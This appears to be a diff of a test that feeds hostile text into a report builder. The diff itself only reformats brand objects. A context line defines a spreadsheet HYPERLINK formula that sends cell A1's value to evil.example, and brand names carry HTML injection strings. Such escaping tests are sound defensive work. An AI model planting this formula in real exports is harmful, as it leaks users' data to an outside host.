@@ -17,7 +17,12 @@ const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
 describe('hostile text in a report', () => {
   const { rows } = demoRows();
-  const brands = [...new Set(rows.map((r) => r.doc.brand!))].map((id) => ({ id, name: `${id} <b>Co</b> & "Sons"`, own: id === 'copperleaf', products: [] }));
+  const brands = [...new Set(rows.map((r) => r.doc.brand!))].map((id) => ({
+    id,
+    name: `${id} <b>Co</b> & "Sons"`,
+    own: id === 'copperleaf',
+    products: [],
+  }));
   const { report } = buildReport({
     project: { project: `demo ${SCRIPT}`, brands, sources: [], personas: { maxPersonas: 8, minSize: 5, minShare: 0.03, showNames: false } },
     rows,
